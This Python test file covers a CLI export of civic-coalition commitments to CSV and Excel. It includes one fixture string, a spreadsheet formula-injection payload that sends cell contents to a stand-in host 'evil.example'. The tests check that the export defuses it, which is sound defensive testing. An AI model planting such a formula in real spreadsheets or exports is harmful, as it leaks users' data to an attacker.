"""`commstat export commitments`: the file a policy manager pastes into minutes or a scorecard."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from click.testing import CliRunner
from sqlalchemy import event

from bot.cli import main
from bot.core.dates import Due
from bot.usecases import commitments
from bot.usecases.commitments import Actor
from bot.usecases.export import COLUMNS, Filters, export_rows
from storage import repositories as repo
from storage.db import make_engine, make_session_factory
from storage.models import Indicator

TEAM = "T0COALITION"
NY = ZoneInfo("America/New_York")
CREATED = datetime(2026, 10, 27, 14, 0, tzinfo=UTC)
NOW = "2026-11-23T15:00:00Z"
NASTY = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


def at(month, day, hour=17, minute=0):
    return datetime(2026, month, day, hour, minute, tzinfo=NY)


def make(session, owners, what, due, *, channel="C0MEETING", created=CREATED, indicator=None):
    actor = Actor(TEAM, owners[0])
    commitment, _ = commitments.store_new(
        session,
        actor=actor,
        owners=owners,
        what=what,
        due=Due(due, False),
        indicator_id=indicator,
        channel_id=channel,
        request_key=None,
        now=created,
    )
    return commitment, actor


def seed(url):
    """Four commitments made and closed through the real core."""
    engine = make_engine(url)
    sessions = make_session_factory(engine)
    with sessions.begin() as session:
        repo.ensure_team(session, TEAM, time_zone="America/New_York", now=CREATED)
        repo.save_person(session, TEAM, "U0MARIA", display_name="maria", organisation="Health Dept")
        repo.save_person(session, TEAM, "U0LEE", display_name="lee", organisation="Police")
        naloxone = Indicator(
            team_id=TEAM,
            slug="naloxone",
            name="Naloxone kits",
            created_at=CREATED,
            updated_at=CREATED,
        )
        session.add(naloxone)
        session.flush()
        kits, maria = make(
            session,
            ["U0MARIA", "U0LEE"],
            "Distribute 200 naloxone kits",
            at(11, 2),
            indicator=naloxone.id,
        )
        commitments.add_note(session, kits, actor=maria, now=at(10, 28), text="Kits ordered")
        commitments.add_note(session, kits, actor=maria, now=at(10, 29), text="Half arrived")
        commitments.add_note(session, kits, actor=maria, now=at(10, 30), text="Shelter agreed")
        commitments.add_note(session, kits, actor=maria, now=at(10, 31), text="Volunteers found")
        commitments.complete(session, kits, actor=maria, now=at(11, 2, 23, 30), note="All out")
        late, lee = make(session, ["U0LEE"], "Open the Saturday clinic", at(11, 4))
        commitments.move(session, late, actor=lee, now=at(11, 3), due=Due(at(11, 6), False))
        commitments.complete(session, late, actor=lee, now=at(11, 9, 10))
        make(session, ["U0MARIA"], NASTY, at(11, 10), channel="C0OTHER")
        old, _ = make(session, ["U0LEE"], "Old housing survey", at(9, 15), created=at(9, 1))
        commitments.drop(session, old, actor=lee, now=at(9, 10), reason="-1 budget, see @finance")
    engine.dispose()
    return url


@pytest.fixture
def database(sqlite_url):
    return seed(sqlite_url)


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """The working directory: holds only what the export writes."""
    path = tmp_path / "out"
    path.mkdir()
    monkeypatch.chdir(path)
    return path


@pytest.fixture
def run(database, folder):
    runner = CliRunner(
        env={
            "DATABASE_URL": database,
            "SLACK_BOT_TOKEN": None,
            "SLACK_SIGNING_SECRET": None,
            "COMMSTAT_TIMEZONE": "America/New_York",
        }
    )

    def invoke(*args):
        return runner.invoke(main, ["export", "commitments", "--now", NOW, *args])

    return invoke


def read_csv(data: bytes):
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_what_the_minutes_need(run):
    result = run()
    assert result.exit_code == 0, result.output
    rows = read_csv(result.stdout_bytes)
    assert list(rows[0]) == list(COLUMNS)
    assert [r["commitment"] for r in rows] == [
        "Distribute 200 naloxone kits",
        "Open the Saturday clinic",
        "'" + NASTY,
        "Old housing survey",
    ]
    kits, clinic, nasty, old = rows
    assert kits["owners"] == "maria (U0MARIA); lee (U0LEE)"
    assert kits["organisations"] == "Health Dept; Police"
    assert kits["creator"] == "maria (U0MARIA)"
    assert (kits["created"], kits["due"], kits["closed"]) == (
        "2026-10-27",
        "2026-11-02",
        "2026-11-02",
    )
    assert (kits["status"], kits["on time"], kits["days late"]) == ("done", "yes", "0")
    assert kits["indicator"] == "Naloxone kits"
    assert kits["notes"] == "(2 earlier notes) Shelter agreed | Volunteers found | Done: All out"
    assert (clinic["due"], clinic["due date changes"]) == ("2026-11-06", "1")
    assert (clinic["on time"], clinic["days late"]) == ("no", "3")
    assert (nasty["status"], nasty["on time"], nasty["days late"]) == ("open", "—", "13")
    assert nasty["channel"] == "C0OTHER"
    assert (old["status"], old["on time"], old["days late"]) == ("dropped", "—", "")
    assert old["notes"] == "Dropped: -1 budget, see @finance"  # not at the start of the cell
    assert "Exported 4 commitments" in result.stderr


def test_since_until_channel_and_status_filter_rows(run):
    def ids(*args):
        result = run(*args)
        assert result.exit_code == 0, result.output
        return [r["commitment"][:8] for r in read_csv(result.stdout_bytes)]

    assert ids("--since", "2026-10-01") == ["Distribu", "Open the", "'=HYPERL"]
    assert ids("--since", "2026-11-05") == ["Open the", "'=HYPERL"]  # closed Nov 9, due Nov 10
    assert ids("--until", "2026-09") == ["Old hous"]
    assert ids("--since", "last month") == ["Distribu", "Open the", "'=HYPERL"]  # October on
    assert ids("--since", "30 days") == ["Distribu", "Open the", "'=HYPERL"]
    assert ids("--channel", "C0OTHER") == ["'=HYPERL"]
    assert ids("--channel", "<#C0MEETING|meeting>", "--status", "done") == ["Distribu", "Open the"]
    assert ids("--status", "dropped") == ["Old hous"]


def test_xlsx_is_a_real_workbook(run, folder):
    result = run("--format", "xlsx")
    assert result.exit_code == 0, result.output
    path = folder / "commitments-2026-11-23.xlsx"
    assert f"Exported 4 commitments to {path.name}" in result.output
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert [c.value for c in sheet[1]] == list(COLUMNS)
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width >= 40
    kits = {name: cell.value for name, cell in zip(COLUMNS, sheet[2], strict=True)}
    assert kits["due"] == datetime(2026, 11, 2)  # a real date Excel can sort and filter
    assert sheet.cell(row=2, column=COLUMNS.index("due") + 1).is_date
    assert kits["days late"] == 0
    nasty = sheet.cell(row=4, column=2)
    assert nasty.value == "'" + NASTY
    assert nasty.data_type == "s"  # text, never a formula
    assert [p.name for p in folder.iterdir()] == [path.name]  # no temporary file left


def test_output_file_for_csv(run, folder):
    result = run("--output", "minutes.csv", "--status", "open")
    assert result.exit_code == 0, result.output
    rows = read_csv((folder / "minutes.csv").read_bytes())
    assert [r["id"] for r in rows] == ["3"]
    assert result.stdout == "Exported 1 commitment to minutes.csv.\n"
    assert (folder / "minutes.csv").stat().st_mode & 0o644 == 0o644  # readable like any file


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (["--format", "pdf"], 2, "'pdf' is not one of 'csv', 'xlsx'"),
        (["--status", "late"], 2, "'late' is not one of"),
        (["--since", "the olden days"], 1, "I can't read 'the olden days' as a date"),
        (["--since", "2026-02-30"], 1, "'2026-02-30' is not a real date"),
        (["--since", "2026-12-01", "--until", "2026-11-01"], 1, "nothing could match"),
        (["--channel", "#general"], 1, "use the channel id, like C0123ABCD"),
        (["--output", "no/such/folder/x.csv"], 1, "does not exist"),
        (["--now", "nope"], 1, "--now 'nope' is not an ISO-8601 instant"),
        (["--now", "2026-12-01T10:00"], 1, "--now needs a UTC offset"),
    ],
)
def test_bad_options_are_refused_and_nothing_is_written(run, folder, args, code, message):
    result = run("--format", "xlsx", *args) if "--format" not in args else run(*args)
    assert result.exit_code == code
    assert message in result.output
    assert "Traceback" not in result.output
    assert list(folder.iterdir()) == []


def test_xlsx_goes_to_a_pipe_but_never_to_a_terminal(run, database, folder):
    piped = run("--format", "xlsx", "--output", "-")
    assert piped.exit_code == 0, piped.output
    assert piped.stdout_bytes.startswith(b"PK")  # a zip: the xlsx container
    screen, terminal = os.openpty()  # a real terminal as stdout
    try:
        result = subprocess.run(
            [
                sys.executable,
                "-m",
                "bot.cli",
                "export",
                "commitments",
                "--format",
                "xlsx",
                "--output",
                "-",
                "--now",
                NOW,
            ],
            stdout=terminal,
            stderr=subprocess.PIPE,
            text=True,
            cwd=folder,
            env={
                "PATH": os.environ["PATH"],
                "HOME": str(folder),
                "DATABASE_URL": database,
                "PYTHONPATH": str(Path(__file__).parents[2]),
            },
            timeout=60,
        )
    finally:
        os.close(terminal)
        os.close(screen)
    assert result.returncode == 1
    assert "An Excel file can't be shown on the screen" in result.stderr
    assert list(folder.iterdir()) == []


def test_rows_are_read_in_bulk_not_one_query_per_commitment(db_url):
    engine = make_engine(seed(db_url))
    sessions = make_session_factory(engine)
    with sessions.begin() as session:
        for i in range(60):
            make(session, ["U0MARIA", "U0LEE"], f"Follow-up {i}", at(12, 1))
    statements = []
    event.listen(engine, "before_cursor_execute", lambda *a: statements.append(a[2]))
    # (only SELECTs are counted below; BEGIN is the connection's, not the export's)
    with sessions() as session:
        rows = list(
            export_rows(
                session,
                team_id=TEAM,
                filters=Filters(),
                now=datetime(2026, 11, 23, tzinfo=UTC),
            )
        )
    engine.dispose()
    assert len(rows) == 64
    assert rows[-1][COLUMNS.index("due")] == date(2026, 12, 1)
    # people, indicators, then one streamed pass each over commitments, owners and events.
    assert len([s for s in statements if s.lstrip().startswith("SELECT")]) == 5


@pytest.mark.parametrize(
    ("now", "message"),
    [("garbage", "is not an ISO-8601 instant"), ("2026-12-01T10:00", "needs a UTC offset")],
)
def test_tick_refuses_a_bad_now_before_touching_the_database(tmp_path, now, message):
    database = tmp_path / "never.sqlite3"
    result = CliRunner(env={"DATABASE_URL": f"sqlite:///{database}"}).invoke(
        main, ["tick", "--now", now]
    )
    assert result.exit_code == 1
    assert message in result.output
    assert not database.exists()


def test_xlsx_holds_exactly_the_rows_and_what_spreadsheets_can_hold(db_url, tmp_path):
    """Every cell read back by openpyxl is the row's value: texts as text (markup, quotes and
    leading spaces kept; characters the file format forbids removed; at most 32,000 characters),
    dates as dates, numbers as numbers, blanks as no cell."""
    from bot.usecases.export import write_xlsx

    engine = make_engine(seed(db_url))
    sessions = make_session_factory(engine)
    awkward = [
        "  <b>bold</b> & 'quotes' \"too\" ]]> \u00e9\u4e2d\U0001f600 ",
        "bell\x07 and form feed\x0c gone; tab\tand line\nbreak kept",
        "x" * 40_000,
        "_x000D_ stays as written",
    ]
    with sessions.begin() as session:
        for text in awkward:
            make(session, ["U0MARIA"], text, at(12, 1))
    with sessions() as session:
        rows = list(
            export_rows(
                session, team_id=TEAM, filters=Filters(), now=datetime(2026, 11, 23, tzinfo=UTC)
            )
        )
    engine.dispose()
    path = tmp_path / "all.xlsx"
    with path.open("wb") as out:
        assert write_xlsx(iter(rows), out) == len(rows) == 8
    sheet = openpyxl.load_workbook(path).active
    assert sheet.title == "Commitments"
    assert sheet.auto_filter.ref == f"A1:P{len(rows) + 1}"
    got = [list(r) for r in sheet.iter_rows(min_row=2, values_only=True)]

    def expected(value):
        if value == "" or value is None:
            return None
        if isinstance(value, date):
            return datetime(value.year, value.month, value.day)
        if isinstance(value, str):
            return value.replace("\x07", "").replace("\x0c", "")[:32_000]
        return value

    assert got == [[expected(v) for v in row] for row in rows]
    texts = {row[1] for row in got}
    assert "  <b>bold</b> & 'quotes' \"too\" ]]> \u00e9\u4e2d\U0001f600 " in texts
    assert "x" * 32_000 in texts


def test_a_sheet_title_with_markup_and_quotes_is_cut_whole_and_reads_back(tmp_path):
    from bot.usecases.export import COLUMNS, write_xlsx

    title = 'R&D "budget" <draft> ' + "x" * 40  # 61 characters; "&" near the 31st is an entity
    path = tmp_path / "titled.xlsx"
    write_xlsx(iter([["v"] * len(COLUMNS)]), path, title=title)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [title[:31]]
